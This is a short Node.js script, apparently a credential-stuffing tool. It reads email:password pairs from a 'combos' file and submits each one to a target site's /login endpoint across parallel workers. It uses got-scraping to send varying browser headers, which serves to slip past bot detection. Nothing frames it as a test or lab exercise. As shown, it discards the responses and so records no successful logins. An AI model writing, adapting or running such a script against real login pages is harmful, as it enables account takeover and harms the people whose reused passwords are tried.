/** Tries the pairs in `combos` by got-scraping, which sends the headers of another browser each time. Arguments: URL, parallel. */
import { readFileSync } from "node:fs";
import { gotScraping } from "got-scraping";

const [url = "", parallel = "1"] = process.argv.slice(2);
const lines = readFileSync("combos", "utf8").trim().split("\n");

async function work() {
  for (let line = lines.pop(); line !== undefined; line = lines.pop()) {
    const [email = "", password = ""] = line.split(":");
    const form = { email, password };
    // A failed attempt is one that he does not repeat.
    await gotScraping
      .post(`${url}/login`, {
        form,
        http2: false,
        followRedirect: false,
        throwHttpErrors: false,
        retry: { limit: 0 },
        timeout: { request: 10_000 },
      })
      .catch(() => undefined);
  }
}

await Promise.all(Array.from({ length: Number(parallel) }, work));
process.exit(0);
